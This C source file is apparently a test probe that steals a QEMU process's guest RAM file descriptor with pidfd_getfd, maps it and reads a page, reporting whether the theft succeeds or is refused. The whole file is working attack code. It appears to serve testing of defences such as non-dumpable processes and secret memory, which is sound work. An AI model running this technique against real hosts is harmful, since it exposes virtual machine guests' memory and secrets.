// SPDX-License-Identifier: Apache-2.0
/*
 * The attack on QEMU's guest RAM file: take descriptor FD of process PID with pidfd_getfd(2), as any
 * process of QEMU's user may unless QEMU is non-dumpable, map it and read a page.
 *   take_guest_ram PID FD  ->  "took: read N bytes" (exit 0), or "refused: ERRNO-NAME" (exit 1)
 * On secret memory the read itself works here: the mapping is the thief's own, in its own address
 * space; that is the point of the attack.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include "pidfd_take.h"

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: take_guest_ram PID FD\n");
        return 2;
    }
    int pidfd = pidfd_of((pid_t) atoi(argv[1]));
    if (pidfd < 0) {
        printf("refused: pidfd_open %s\n", strerrorname_np(errno));
        return 1;
    }
    int fd = take_descriptor(pidfd, atoi(argv[2]));
    if (fd < 0) {
        printf("refused: %s\n", strerrorname_np(errno));
        return 1;
    }
    long size = sysconf(_SC_PAGESIZE);
    volatile unsigned char *page = mmap(NULL, (size_t) size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (page == MAP_FAILED) {
        printf("took the descriptor, mmap failed: %s\n", strerrorname_np(errno));
        return 0;
    }
    unsigned sum = 0;
    for (long i = 0; i < size; i++) sum += page[i];
    printf("took: read %ld bytes (sum %u)\n", size, sum);
    return 0;
}
